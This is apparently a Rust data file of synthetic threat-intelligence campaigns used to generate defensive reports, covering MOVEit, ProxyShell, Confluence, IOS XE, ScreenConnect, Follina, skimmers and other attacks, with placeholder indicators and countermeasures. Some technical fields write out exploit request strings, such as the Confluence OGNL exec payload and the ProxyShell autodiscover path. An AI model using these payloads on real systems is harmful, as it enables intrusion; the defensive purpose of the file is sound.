        name_ja: "ハクティビストによるDDoS",
        targets: &[
            Sector::Finance,
            Sector::GovernmentServices,
            Sector::Aviation,
            Sector::Railway,
        ],
        incidents: [
            "DDoS against online banking: 40 Gbps UDP reflection and HTTPS floods",
            "政府・行政サービスのウェブサイトに対するDDoS攻撃",
            "Booking site of a {sector} operator slowed by HTTP/2 request flood",
        ],
        analyses: [
            "Unconfirmed: hacktivist channel announces next targets in {sector}",
            "Hacktivist DDoS campaign against government and transport web sites",
            "Deep dive: botnet composition and attack vectors of the hacktivist DDoS campaign",
        ],
        intel: "Indicators: DDoS source ranges and botnet controller",
        advice: [
            "Prepare for announced DDoS: confirm upstream mitigation and origin protection",
            "対策: DDoS予告への備え (ISP・CDNとの連絡体制とオリジンの秘匿)",
        ],
        background: "A politically motivated group announces targets on its channel a few hours before each wave, and attacks the web sites of government, banks and transport operators. The purpose is visibility and disruption, not data theft: the group posts screenshots of unreachable sites. Attacks last from one to six hours and switch vectors when mitigation takes effect.",
        technical: "Waves combine UDP reflection (DNS, CLDAP, memcached) of up to 40 Gbps with HTTPS request floods from a botnet of compromised routers and rented servers, using random query strings to bypass caches. HTTP/2 rapid-reset patterns were seen against one origin. Source addresses concentrate in the listed ranges; the botnet controller is reached over HTTPS.",
        countermeasures: "1. Agree DDoS mitigation with your ISP and CDN in advance and keep their emergency contacts at hand. 2. Hide the addresses of origin servers and accept traffic only from the CDN. 3. Rate-limit and cache dynamic pages where possible. 4. Prepare a static status page and public messaging.",
        damage: [
            "Online banking unreachable for about 70 minutes; no impact on transactions or data.",
            "Web site slow for three hours; the reservation system was not affected.",
        ],
        techniques: &["T1498", "T1498.001", "T1498.002", "T1499", "T1499.002"],
        cves: &["CVE-2023-44487"],
        products: &[],
        indicators: &[
            (K::Cidr, "198.51.100.0/24"),
            (K::Cidr, "203.0.113.0/25"),
            (K::Cidr, "198.51.100.64/26"),
            (K::Cidr, "2001:db8:dd05::/48"),
            (K::Ipv4, "192.0.2.10"),
            (K::Ipv4, "192.0.2.11"),
            (K::Ipv4, "192.0.2.12"),
            (K::Domain, "botnet-cc-oboroguruma.example.net"),
        ],
        files: &["bot.mips", "bot.arm7"],
    },
    Campaign {
        key: "bank-phishing",
        name: "the online-banking phishing wave",
        name_ja: "ネットバンキングを狙うフィッシング",
        targets: &[Sector::Finance, Sector::Credit],
        incidents: [
            "Phishing SMS leads bank customers to fake login pages that relay one-time passwords",
            "ネットバンキングの偽ログインページへ誘導するSMS (スミッシング)",
            "Fake member site harvests {sector} customers' credentials",
        ],
        analyses: [
            "Unconfirmed: new phishing kit mimics several regional banks",
            "Real-time phishing relays defeat SMS one-time passwords at {sector} companies",
            "Deep dive: the phishing kit behind the online-banking wave",
        ],
        intel: "Indicators: online-banking phishing domains and mail senders",
        advice: [
            "Warn customers and take phishing sites down quickly",
            "対策: フィッシングサイトの早期テイクダウンと利用者への注意喚起",
        ],
        background: "Criminal groups send SMS and mail claiming that an account has been suspended, with a link to a copy of the bank's login page. The page relays what the victim types — password and one-time code — to the real bank in real time, and the attacker transfers money within minutes. Regional banks and card companies are targeted in waves of a few days.",
        technical: "Phishing domains are registered hours before use and put behind a CDN; each bank gets its own sub-domain. The kit filters visitors by user agent and IP geolocation, shows a bank-branded login, asks for the one-time password, and forwards each field to a chat bot. Mails are sent from compromised mailboxes and from look-alike domains.",
        countermeasures: "1. Monitor newly registered domains and certificate transparency logs for your brand. 2. Request takedown through your CSIRT provider as soon as a site is seen. 3. Move customers to phishing-resistant authentication (transaction signing in the app, passkeys). 4. Warn customers through your web site and app, not by SMS.",
        damage: [
            "27 customer accounts compromised; 14 illicit transfers, of which 9 were stopped.",
            "Card numbers of about 300 customers entered on the fake site; the cards were re-issued.",
        ],
        techniques: &["T1566.002", "T1056.003", "T1111", "T1078", "T1583.001"],
        cves: &[],
        products: &[],
        indicators: &[
            (K::Domain, "netbank-login-nurikabe.example.com"),
            (
                K::Url,
                "https://netbank-login-nurikabe.example.com/ib/login.php",
            ),
            (K::Domain, "sms-verify-nurikabe.example.com"),
            (K::Url, "https://sms-verify-nurikabe.example.com/otp"),
            (K::Email, "support@netbank-login-nurikabe.example.com"),
            (
                K::EmailSubject,
                "【重要】お客様の口座が一時的に利用停止されています",
            ),
            (
                K::EmailSubject,
                "Your account has been temporarily suspended",
            ),
            (K::Ipv4, "203.0.113.140"),
            (K::Ipv4, "198.51.100.140"),
        ],
        files: &["phish_kit.zip"],
    },
    Campaign {
        key: "moveit",
        name: "the MOVEit Transfer data theft",
        name_ja: "MOVEit Transfer 経由の情報窃取",
        targets: &[Sector::Finance, Sector::Logistics, Sector::Medical],
        incidents: [
            "MOVEit Transfer SQL injection: files stolen from file transfer server (CVE-2023-34362)",
            "ファイル転送サーバ (MOVEit Transfer) からの情報窃取",
            "{sector} contractor's MOVEit server breached; our files affected",
        ],
        analyses: [
            "Unconfirmed: web shell human2.aspx found on a MOVEit server",
            "Mass exploitation of MOVEit Transfer for data extortion in {sector}",
            "Deep dive: the LEMURLOOT web shell and the MOVEit exploitation chain",
        ],
        intel: "Indicators: MOVEit Transfer exploitation sources and web shell",
        advice: [
            "Patch MOVEit Transfer and hunt for human2.aspx",
            "対策: MOVEit Transfer の更新と不審なASPXファイルの確認",
        ],
        background: "Managed file transfer servers hold exactly the files organisations exchange with partners: payroll, customer lists, medical claims. A data-extortion group exploited a SQL injection in Progress MOVEit Transfer at scale over a holiday weekend, stealing files from hundreds of organisations without encrypting anything. The purpose is extortion by threatening to publish the stolen data.",
        technical: "Crafted requests to moveitisapi.dll and guestaccess.aspx exploit CVE-2023-34362 to reach the database, then install an ASPX web shell (human2.aspx) that lists and downloads files, protected by a password in the X-siLock-Comment header. Azure Blob storage keys stored in the settings were also taken. Logs show many GET requests to human2.aspx from the listed addresses.",
        countermeasures: "1. Update MOVEit Transfer to the fixed version and apply the later fixes too. 2. Search the web root for human2.aspx and other unexpected .aspx files, and the database for unknown admin accounts. 3. Rotate service credentials and storage keys used by MOVEit. 4. Determine which files were taken and notify the partners and individuals concerned.",
        damage: [
            "Files of about 8,000 customers downloaded from the transfer server.",
            "The contractor's server was breached; our payroll exchange files of the past 90 days were exposed.",
        ],
        techniques: &["T1190", "T1505.003", "T1048", "T1530"],
        cves: &["CVE-2023-34362"],
        products: &[Prod {
            vendor: "Progress",
            product: "MOVEit Transfer",
            version: "before 2023.0.1",
            cpe: Some("cpe:2.3:a:progress:moveit_transfer:2023.0.0:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "moveit-exfil-jorogumo.example.org"),
            (
                K::Url,
                "https://moveit-exfil-jorogumo.example.org/human2.aspx",
            ),
            (K::Ipv4, "198.51.100.30"),
            (K::Ipv4, "198.51.100.31"),
            (K::Ipv4, "203.0.113.30"),
        ],
        files: &["human2.aspx", "moveit_dump.zip"],
    },
    Campaign {
        key: "proxyshell",
        name: "the ProxyShell web shells",
        name_ja: "ProxyShell によるWebシェル設置",
        targets: &[
            Sector::Chemical,
            Sector::Petroleum,
            Sector::GovernmentServices,
        ],
        incidents: [
            "Web shells on on-premises Exchange via ProxyShell",
            "オンプレミスExchangeサーバにWebシェル (ProxyShell)",
            "Mailboxes exported from a {sector} operator's Exchange server after ProxyShell exploitation",
        ],
        analyses: [
            "Unconfirmed: new ProxyShell variant evades the URL rewrite mitigation",
            "Unpatched Exchange servers in {sector} still hit by ProxyShell",
            "Deep dive: the ProxyShell chain, mailbox export and web shells",
        ],
        intel: "Indicators: ProxyShell exploitation and web shell access",
        advice: [
            "Apply Exchange cumulative updates and hunt for web shells",
            "対策: Exchange Server の累積更新と aspnet_client 配下の確認",
        ],
        background: "On-premises Exchange servers face the internet and hold an organisation's entire mail. The ProxyShell chain (CVE-2021-34473, CVE-2021-34523, CVE-2021-31207) lets an unauthenticated attacker write a web shell through a mailbox export. Exchange servers that missed the 2021 updates are still being compromised, for espionage and as a first step towards ransomware.",
        technical: "Requests to /autodiscover/autodiscover.json?@evil.example/mapi/nspi/ reach the backend as SYSTEM; New-MailboxExportRequest then writes a draft containing an encoded web shell to an .aspx file under aspnet_client or the OWA directory. The shell is used to run PowerShell, export mailboxes and add accounts to the Organization Management group.",
        countermeasures: "1. Install the latest Exchange cumulative and security updates. 2. Search IIS logs for autodiscover.json requests containing @ and for POSTs to unexpected .aspx files; search the web directories for new .aspx files. 3. Review mailbox export requests and role group changes. 4. Move mail to a managed service or put OWA behind pre-authentication.",
        damage: [
            "Web shell found; the mailboxes of five executives were exported by the attacker.",
            "Web shell present for two weeks; no mailbox export confirmed.",
        ],
        techniques: &["T1190", "T1505.003", "T1114.002", "T1059.001", "T1098"],
        cves: &["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"],
        products: &[Prod {
            vendor: "Microsoft",
            product: "Exchange Server 2019",
            version: "CU9 and earlier without the July 2021 update",
            cpe: Some("cpe:2.3:a:microsoft:exchange_server:2019:cumulative_update_9:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "owa-sync-mikoshi.example.com"),
            (
                K::Url,
                "https://owa-sync-mikoshi.example.com/dl/ExchangeSvc.ps1",
            ),
            (K::Ipv4, "192.0.2.70"),
            (K::Ipv4, "203.0.113.70"),
            (K::Ipv6, "2001:db8:e8c::70"),
        ],
        files: &["shell.aspx", "ExchangeSvc.ps1"],
    },
    Campaign {
        key: "confluence",
        name: "the Confluence OGNL injection",
        name_ja: "Confluence OGNL インジェクション",
        targets: &[Sector::InformationCommunication, Sector::Railway],
        incidents: [
            "Confluence Server OGNL injection exploited (CVE-2022-26134)",
            "社内Wiki (Confluence) の脆弱性を悪用した不正アクセス",
            "Crypto miner and web shell on a {sector} operator's internal wiki",
        ],
        analyses: [
            "Unconfirmed: scanning for the Confluence OGNL injection from new sources",
            "CVE-2022-26134 remains popular with miners and access brokers targeting {sector}",
            "Deep dive: Confluence OGNL payloads and persistence on wiki servers",
        ],
        intel: "Indicators: Confluence OGNL exploitation and callbacks",
        advice: [
            "Update Confluence and never expose it directly to the internet",
            "対策: Confluence の更新とインターネットからの直接アクセスの禁止",
        ],
        background: "Internal wikis collect passwords, network diagrams and procedures, yet are often reachable from the internet for convenience. CVE-2022-26134 lets an unauthenticated attacker run code on Atlassian Confluence Server and Data Center through an OGNL expression in the URL. Exploitation began as a zero-day and is now part of every mass-scanning toolkit.",
        technical: "The payload is an OGNL expression in the request path, such as /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/, executed as the Confluence service user. Follow-on activity: a JSP web shell in the Confluence web directory, a cron job downloading a miner, and reading confluence.cfg.xml for the database credentials.",
        countermeasures: "1. Update Confluence Server and Data Center to a fixed release. 2. Do not expose Confluence directly to the internet; put it behind a VPN or an authenticating proxy. 3. Search access logs for ${ or %24%7B in request paths, and the install directory for new .jsp files. 4. Rotate the database password and any credentials stored on wiki pages.",
        damage: [
            "Miner and JSP web shell installed on the wiki server; pages with network diagrams may have been read.",
            "Exploitation attempt logged; the server was already patched, no damage.",
        ],
        techniques: &["T1190", "T1059.004", "T1505.003", "T1496", "T1552.001"],
        cves: &["CVE-2022-26134"],
        products: &[
            Prod {
                vendor: "Atlassian",
                product: "Confluence Server",
                version: "7.18.0 and earlier supported versions",
                cpe: Some("cpe:2.3:a:atlassian:confluence_server:7.18.0:*:*:*:*:*:*:*"),
            },
            Prod {
                vendor: "Atlassian",
                product: "Confluence Data Center",
                version: "7.18.0 and earlier supported versions",
                cpe: Some("cpe:2.3:a:atlassian:confluence_data_center:7.18.0:*:*:*:*:*:*:*"),
            },
        ],
        indicators: &[
            (K::Domain, "wiki-callback-azukiarai.example.net"),
            (K::Url, "https://wiki-callback-azukiarai.example.net/ldr.sh"),
            (K::Ipv4, "198.51.100.120"),
            (K::Ipv4, "192.0.2.120"),
        ],
        files: &["ldr.sh", "noop.jsp"],
    },
    Campaign {
        key: "ot-hmi",
        name: "the attacks on exposed control systems",
        name_ja: "インターネットに露出した制御システムへの攻撃",
        targets: &[Sector::Water, Sector::Electricity, Sector::Gas],
        incidents: [
            "Internet-exposed HMI accessed without password at a water treatment plant",
            "浄水場の監視制御画面 (HMI) に対する外部からの不正操作",
            "Remote access to a {sector} control system through a forgotten VNC server",
        ],
        analyses: [
            "Unconfirmed: video of a manipulated HMI posted by a hacktivist group",
            "Hacktivists target internet-exposed HMIs of small {sector} facilities",
            "Deep dive: how exposed VNC servers and default PLC passwords are found and abused",
        ],
        intel: "Indicators: sources of unauthorised HMI and PLC access",
        advice: [
            "Take control systems off the internet and change default PLC passwords",
            "対策: 制御システムのインターネット露出の解消と既定パスワードの変更",
        ],
        background: "Small water, power and gas facilities sometimes expose their control screens to the internet so that contractors can monitor them remotely. Hacktivist groups search for them, change setpoints or alarm thresholds, and post videos of their actions. The physical impact so far was limited because operators noticed and switched to manual control, but the same access could cause real harm.",
        technical: "Access was through a VNC server without a password on the HMI workstation, and in one case through a PLC reachable on TCP/502 (Modbus) and TCP/20256 with its default password. The attacker changed pump setpoints and disabled alarms. Such exposure is easy to find through internet scanning services.",
        countermeasures: "1. Remove direct internet exposure of HMIs and PLCs; use a VPN with MFA for remote maintenance. 2. Set strong passwords on VNC and change default PLC passwords. 3. Log and raise an alarm on setpoint changes. 4. Practise switching to manual operation.",
        damage: [
            "Chlorine dosing setpoint changed for about 20 minutes; corrected manually, no effect on water quality.",
            "Alarm thresholds changed; discovered at shift handover, no physical impact.",
        ],
        techniques: &["T0883", "T0886", "T0855", "T0836", "T1133"],
        cves: &[],
        products: &[Prod {
            vendor: "Various",
            product: "VNC server on HMI workstations",
            version: "any version without authentication",
            cpe: None,
        }],
        indicators: &[
            (K::Ipv4, "203.0.113.220"),
            (K::Ipv4, "192.0.2.220"),
            (K::Cidr, "203.0.113.216/29"),
            (K::Domain, "remote-hmi-ushioni.example.org"),
        ],
        files: &[],
    },
    Campaign {
        key: "router-implant",
        name: "the router firmware implants",
        name_ja: "ルータファームウェアの改ざん",
        targets: &[
            Sector::InformationCommunication,
            Sector::Aviation,
            Sector::Electricity,
        ],
        incidents: [
            "Modified firmware on a branch-office router used to pivot into headquarters",
            "海外拠点のルータを踏み台にした本社ネットワークへの侵入",
            "Router at a {sector} branch office runs unsigned firmware with a hidden SSH backdoor",
        ],
        analyses: [
            "Unconfirmed: unexpected boot image hash on a branch router",
            "Router implants move from subsidiaries to headquarters of {sector} companies",
            "Deep dive: router firmware modification, hidden backdoor and log suppression",
        ],
        intel: "Indicators: router implant infrastructure",
        advice: [
            "Verify router firmware integrity and restrict management access",
            "対策: ルータのファームウェア完全性の確認と管理アクセスの制限",
        ],
        background: "Branch-office and overseas subsidiary routers are trusted by headquarters and seldom monitored. A state-sponsored actor replaces their firmware with a modified image that accepts a hidden SSH backdoor and hides its own traffic, then uses the trusted link to reach headquarters. The purpose is long-term espionage against defence-related industry, telecommunications and government.",
        technical: "The actor logs in with stolen administrator credentials, downgrades to an older firmware, and loads a modified image patched in memory to bypass signature checks. The implant opens SSH on a port only after it receives a magic packet, suppresses logging for chosen addresses, and proxies traffic between the branch and headquarters.",
        countermeasures: "1. Compare running firmware hashes with the vendor's published hashes and verify the boot image signature. 2. Restrict router management to a dedicated network and monitor for firmware downgrades and unexpected reboots. 3. Use MFA for network device administration and rotate credentials. 4. Treat traffic from subsidiaries with the same suspicion as internet traffic.",
        damage: [
            "Branch router implanted; the attacker accessed a headquarters file server over the branch link.",
            "Modified firmware found during maintenance; no lateral movement confirmed.",
        ],
        techniques: &["T1601.001", "T1542.004", "T1556.004", "T1090.003", "T1070"],
        cves: &[],
        products: &[Prod {
            vendor: "Cisco",
            product: "IOS",
            version: "various releases on branch routers",
            cpe: None,
        }],
        indicators: &[
            (K::Domain, "router-fw-amanojaku.example.net"),
            (K::Ipv4, "198.51.100.250"),
            (K::Ipv4, "198.51.100.251"),
            (K::Ipv4, "192.0.2.251"),
            (K::Ipv6, "2001:db8:7007::1"),
        ],
        files: &["branch-router-mod.bin"],
    },
    Campaign {
        key: "lodeinfo",
        name: "the LODEINFO spear-phishing",
        name_ja: "LODEINFO を用いた標的型メール",
        targets: &[
            Sector::GovernmentServices,
            Sector::InformationCommunication,
            Sector::Aviation,
        ],
        incidents: [
            "シンクタンク・研究者を狙う標的型メール (LODEINFO)",
            "Spear-phishing with a lecture request leads to LODEINFO infection",
            "{sector} staff targeted with a fake interview request carrying a LODEINFO loader",
        ],
        analyses: [
            "Unconfirmed: new LODEINFO version with a changed C2 protocol",
            "Espionage campaign against academics and officials reaches {sector}",
            "Deep dive: LODEINFO loader, DLL side-loading and shared infrastructure",
        ],
        intel: "Indicators: LODEINFO loaders, mail senders and C2 servers",
        advice: [
            "Beware of lecture and interview requests with attachments",
            "対策: 講演依頼・取材依頼を装う標的型メールへの注意と端末調査",
        ],
        background: "An espionage group targets people who work on foreign and security policy — researchers, journalists, officials and defence-related companies — with carefully written Japanese mails asking for a lecture or an interview. The attachment installs LODEINFO, a backdoor that collects documents. The purpose is intelligence on policy and technology.",
        technical: "The mail links to or attaches a password-protected archive with a Word document or a shortcut file. The document uses template injection or the old Equation Editor exploit (CVE-2017-11882); the shortcut starts a legitimate signed executable that side-loads a malicious DLL, which decrypts LODEINFO in memory. LODEINFO talks HTTP with encrypted POST bodies. One C2 domain was earlier seen in a commodity malware campaign, probably a shared or resold hosting account.",
        countermeasures: "1. Be suspicious of lecture, interview and questionnaire requests with attachments or download links; confirm by phone. 2. Block execution of shortcut files and signed executables from download and temp folders. 3. Hunt for DLLs placed beside legitimate executables in user profile folders. 4. Report suspicious mails to the council even if nobody opened them.",
        damage: [
            "One researcher's PC infected; documents on the PC may have been collected.",
            "The mail was opened but EDR blocked the attachment; no infection.",
        ],
        techniques: &[
            "T1566.001",
            "T1204.002",
            "T1574.002",
            "T1203",
            "T1071.001",
            "T1027",
        ],
        cves: &["CVE-2017-11882"],
        products: &[OFFICE_2016],
        indicators: &[
            (K::Domain, "seminar-request-kitsunebi.example.org"),
            (
                K::Email,
                "lecture-office@seminar-request-kitsunebi.example.org",
            ),
            (
                K::EmailSubject,
                "【講演依頼】国際情勢に関するご講演のお願い",
            ),
            (K::EmailSubject, "取材のお願い (経済安全保障について)"),
            (K::Domain, EXAMPLE_INDICATOR),
            (K::Ipv4, "192.0.2.100"),
            (K::Ipv4, "198.51.100.100"),
            (
                K::Url,
                "https://seminar-request-kitsunebi.example.org/files/request.zip",
            ),
        ],
        files: &["koen_irai.docx", "sideload.dll", "lodeinfo.bin"],
    },
    Campaign {
        key: "iosxe",
        name: "the IOS XE web UI implant",
        name_ja: "IOS XE Web UI 経由のインプラント",
        targets: &[
            Sector::InformationCommunication,
            Sector::Railway,
            Sector::Logistics,
        ],
        incidents: [
            "Cisco IOS XE web UI exploited: rogue privilege-15 account and implant (CVE-2023-20198)",
            "IOS XE 機器のWeb管理画面を悪用した不正アカウント作成",
            "{sector} operator finds unknown cisco_tac_admin account on an edge switch",
        ],
        analyses: [
            "Unconfirmed: implant check returns nothing but rogue accounts exist",
            "Mass exploitation of the IOS XE web UI hits {sector} networks",
            "Deep dive: the CVE-2023-20198 and CVE-2023-20273 chain and the Lua implant",
        ],
        intel: "Indicators: IOS XE web UI exploitation sources",
        advice: [
            "Disable the IOS XE HTTP server on internet-facing devices",
            "対策: IOS XE の HTTP サーバ機能の無効化と不審アカウントの確認",
        ],
        background: "Routers and switches running Cisco IOS XE with the web UI reachable from the internet were compromised by the tens of thousands within days. An attacker creates a privilege-15 account through CVE-2023-20198, then uses CVE-2023-20273 to install an implant that runs commands as root. Network devices give an attacker a quiet position to watch and redirect traffic.",
        technical: "Requests to /webui/logoutconfirm.html?logon_hash=1 test for the implant; later versions check an Authorization header to hide from such tests. Accounts named cisco_tac_admin or cisco_support were created, and the implant's configuration appears at /usr/binos/conf/nginx-conf/cisco_service.conf.",
        countermeasures: "1. Disable the HTTP and HTTPS server (no ip http server, no ip http secure-server) on internet-facing devices, or restrict it to trusted addresses. 2. Upgrade IOS XE to a fixed release. 3. Look for unknown local users and unexpected configuration changes. 4. If compromised, reload verified software and rotate credentials.",
        damage: [
            "Unknown privilege-15 accounts found on two edge switches; removed, no configuration changes found.",
            "Implant installed on an internet router; the router was rebuilt.",
        ],
        techniques: &["T1190", "T1136.001", "T1068", "T1505.003"],
        cves: &["CVE-2023-20198", "CVE-2023-20273"],
        products: &[Prod {
            vendor: "Cisco",
            product: "IOS XE",
            version: "16.x and 17.x with the web UI enabled",
            cpe: Some("cpe:2.3:o:cisco:ios_xe:17.9.1:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "iosxe-implant-enenra.example.com"),
            (K::Ipv4, "203.0.113.55"),
            (K::Ipv4, "192.0.2.55"),
        ],
        files: &["cisco_service.conf"],
    },
    Campaign {
        key: "screenconnect",
        name: "the ScreenConnect authentication bypass",
        name_ja: "ScreenConnect 認証回避",
        targets: &[Sector::Logistics, Sector::Medical, Sector::Credit],
        incidents: [
            "ScreenConnect authentication bypass used to push remote tools (CVE-2024-1709)",
            "保守業者の遠隔サポートツール (ScreenConnect) 経由の侵入",
            "Remote support server of a {sector} IT contractor abused to reach our servers",
        ],
        analyses: [
            "Unconfirmed: new admin users created on ScreenConnect servers overnight",
            "ScreenConnect exploited by ransomware groups through IT contractors in {sector}",
            "Deep dive: SetupWizard bypass, path traversal and follow-on tooling",
        ],
        intel: "Indicators: ScreenConnect exploitation and follow-on tooling",
        advice: [
            "Update on-premises ScreenConnect and ask your IT contractors about theirs",
            "対策: ScreenConnect の更新と保守委託先の遠隔接続ツールの確認",
        ],
        background: "IT contractors use remote support tools to reach many customers at once; compromising one tool reaches them all. A flaw in on-premises ConnectWise ScreenConnect (CVE-2024-1709) lets anyone re-run the setup wizard and create an administrator, and CVE-2024-1708 allows code execution. Ransomware groups used both to deploy remote access and encryptors at the contractors' customers.",
        technical: "Requests to /SetupWizard.aspx/ with a trailing path segment bypass the check that setup is complete, allowing a new admin user. The attacker then uploads an extension to run code, pushes a remote access tool to managed endpoints through ScreenConnect sessions, and creates local admin accounts.",
        countermeasures: "1. Update on-premises ScreenConnect to 23.9.8 or later. 2. Ask IT contractors which remote tools reach your network and how they are patched and protected. 3. Review ScreenConnect users, extensions and session logs for the window of exposure. 4. Alert on new remote-access tools and new local administrator accounts on servers.",
        damage: [
            "The contractor's ScreenConnect was used to install a remote access tool on six of our servers; removed before further activity.",
            "Two PCs encrypted at a branch office; main systems not affected.",
        ],
        techniques: &["T1190", "T1219", "T1136.001", "T1105", "T1199"],
        cves: &["CVE-2024-1709", "CVE-2024-1708"],
        products: &[Prod {
            vendor: "ConnectWise",
            product: "ScreenConnect",
            version: "23.9.7 and earlier",
            cpe: Some("cpe:2.3:a:connectwise:screenconnect:23.9.7:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "support-session-zashiki.example.net"),
            (
                K::Url,
                "https://support-session-zashiki.example.net/Bin/ScreenConnect.ClientSetup.msi",
            ),
            (K::Ipv4, "198.51.100.45"),
            (K::Ipv4, "203.0.113.45"),
        ],
        files: &["ScreenConnect.ClientSetup.msi", "svchost-update.exe"],
    },
    Campaign {
        key: "follina",
        name: "the Follina documents",
        name_ja: "Follina 悪用文書",
        targets: &[Sector::Chemical, Sector::Petroleum, Sector::Finance],
        incidents: [
            "Word document abusing MSDT (Follina) received by procurement staff",
            "MSDT の脆弱性 (Follina) を悪用する文書ファイルの受信",
            "Engineer at a {sector} company opened a Follina document disguised as a tender specification",
        ],
        analyses: [
            "Unconfirmed: RTF variant of Follina without macros",
            "Follina documents used against {sector} companies despite the patch",
            "Deep dive: ms-msdt URL handler abuse and the payload chain",
        ],
        intel: "Indicators: Follina documents and payload servers",
        advice: [
            "Apply the MSDT fix and disable the ms-msdt URL protocol",
            "対策: MSDT 修正プログラムの適用と ms-msdt プロトコルの無効化",
        ],
        background: "Attackers keep using document exploits that work without macros, because many organisations now block macros. CVE-2022-30190 (Follina) makes Word fetch an HTML page that calls the Microsoft Support Diagnostic Tool, which runs PowerShell — for RTF files even in the preview pane. The documents are disguised as tender specifications and purchase orders sent to procurement and engineering staff.",
        technical: "The document's relationship file points to an external HTML page; the page sets window.location to an ms-msdt: URL whose IT_BrowseForFile parameter carries a PowerShell command. Observed payloads download a loader DLL and run it with rundll32. Execution shows msdt.exe as a child of winword.exe.",
        countermeasures: "1. Install the June 2022 or later Windows update. 2. Where the update cannot be applied yet, disable the ms-msdt protocol (remove HKCR\\ms-msdt). 3. Alert on msdt.exe started by Office applications. 4. Block outbound connections from Office applications to the internet where business allows.",
        damage: [
            "One PC compromised; the loader was removed by EDR within an hour.",
            "The document was opened but EDR blocked msdt.exe; no infection.",
        ],
        techniques: &["T1566.001", "T1203", "T1218", "T1059.001", "T1204.002"],
        cves: &["CVE-2022-30190"],
        products: &[Prod {
            vendor: "Microsoft",
            product: "Windows 10",
            version: "21H2 before the June 2022 update",
            cpe: Some("cpe:2.3:o:microsoft:windows_10_21h2:-:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "msdt-payload-namahage.example.org"),
            (
                K::Url,
                "https://msdt-payload-namahage.example.org/word/document.html",
            ),
            (K::Email, "tender@spec-share-oboro.example.com"),
            (K::EmailSubject, "入札仕様書の送付 (改訂版)"),
            (K::EmailSubject, "Purchase order PO-4471 specification"),
            (K::Ipv4, "192.0.2.39"),
            (K::Ipv4, "198.51.100.39"),
        ],
        files: &["tender_spec_rev2.docx", "payload.dll"],
    },
    Campaign {
        key: "skimmer",
        name: "the checkout page skimmers",
        name_ja: "決済画面へのスキマー埋め込み",
        targets: &[Sector::Credit, Sector::Logistics],
        incidents: [
            "Card skimmer injected into an online shop checkout (Adobe Commerce, CVE-2024-34102)",
            "ECサイトの決済画面改ざんによるクレジットカード情報の漏えい",
            "Skimming script on a {sector} web shop sends card data to a fake analytics domain",
        ],
        analyses: [
            "Unconfirmed: card-testing spike may point to a new skimmer campaign",
            "Adobe Commerce web shops compromised at scale, hitting {sector} firms",
            "Deep dive: the checkout skimmer loader and its exfiltration",
        ],
        intel: "Indicators: skimmer loader and exfiltration domains",
        advice: [
            "Patch Adobe Commerce and Magento, and monitor checkout page scripts",
            "対策: ECサイトの改ざん検知と決済画面のスクリプト監視",
        ],
        background: "Small online shops often run unpatched e-commerce software. Criminals inject a JavaScript skimmer into the checkout page that copies card numbers as customers type them. Card companies notice the fraud weeks later, after thousands of cards have leaked. CVE-2024-34102 in Adobe Commerce and Magento was exploited against thousands of shops.",
        technical: "The attacker exploits CVE-2024-34102 (an XML external entity flaw) to read the encryption key from env.php, forges an API token and inserts a script tag into the CMS block of the checkout page. The script loads from a domain imitating an analytics service, hooks the payment form and posts the card data, base64-encoded, to the same domain.",
        countermeasures: "1. Update Adobe Commerce or Magento and rotate the encryption key after the update. 2. Use a Content Security Policy with reporting, and subresource integrity, on checkout pages. 3. Compare checkout page scripts daily with a known-good list. 4. Card issuers: share suspected common points of purchase quickly.",
        damage: [
            "Card data of about 2,300 customers possibly leaked over six weeks.",
            "Skimmer present for two days; about 40 transactions affected.",
        ],
        techniques: &["T1190", "T1059.007", "T1056.003", "T1041"],
        cves: &["CVE-2024-34102"],
        products: &[Prod {
            vendor: "Adobe",
            product: "Commerce",
            version: "2.4.7 and earlier",
            cpe: Some("cpe:2.3:a:adobe:commerce:2.4.6:*:*:*:*:*:*:*"),
        }],
        indicators: &[
            (K::Domain, "cdn-analytics-hitotsume.example.com"),
            (
                K::Url,
                "https://cdn-analytics-hitotsume.example.com/js/jquery.min.js",
            ),
            (K::Ipv4, "203.0.113.99"),
            (K::Ipv4, "198.51.100.99"),
        ],
        files: &["skimmer.js"],
    },
];

const INCIDENT_LEADS: &[&str] = &[
    "A member organisation reports an incident that matches the activity described below.",
    "Reported within hours of detection so that others can check their own networks; details may still change.",
    "報告組織は週末に監視サービスからの通報で本事案を検知しました。",
    "The reporting organisation found the activity after a business partner warned it of similar behaviour.",
    "Detected by endpoint monitoring; the affected hosts were isolated the same day.",
    "外部からの通報を受けて調査したところ、以下の活動が確認されました。",
];

const EVIDENCE: &[&str] = &[
    "firewall and VPN appliance logs",
    "EDR telemetry from the affected hosts",
    "the mail gateway quarantine",
    "a memory image of the first affected host",
    "proxy and DNS logs of the last 30 days",
    "NetFlow records from the internet edge",
];

/// Invented names of victims other than the reporting member itself.
const THIRD_PARTIES: &[&str] = &[
    "Kazenoura Services (subsidiary)",
    "Mizuhane Engineering (maintenance contractor)",
    "Yumesaka Trading (business partner)",
    "Hoshikumo Systems (IT contractor)",
    "Tokinagi Field Operations (affiliate)",
];

const NOT_DAMAGED: &str =
    "No damage: the activity was detected and blocked before it reached internal systems.";
const STAGE_UNCONFIRMED: &str = "This is an early, unconfirmed analysis based on a single sample and one member's logs. It is shared with the task force so that members can check their own networks now; it may be revised or retracted.";
const STAGE_PROBABLE: &str = "Assessment: probable. It rests on several member reports and our own telemetry, but some steps of the chain have not been reproduced.";
const STAGE_CONFIRMED: &str =
    "Assessment: confirmed by reverse engineering and by independent reports from several members.";
const DEEP_DIVE_NOTE: &str = "Detection rules (YARA, Sigma and Suricata) are available to task-force members on request through the coordinator.";
const INTEL_NOTE: &str = "This set collects the indicators seen across member reports so far and is updated as new reports arrive.";
const INTEL_TECH: &str = "Indicators were collected from several member reports and from our own sensors, deduplicated and checked for false positives. Addresses may belong to shared hosting or compromised servers: check before blocking whole ranges.";
const INTEL_CM: &str = "Block the domains and URLs at DNS and proxy; search the logs of the last 30 days for the addresses and hashes; report any hit to the task force through the feedback function.";
const ADVICE_NOTE: &str = "The coordinator asks every member that runs the affected products, or may be targeted, to take the steps below and to report what it finds.";
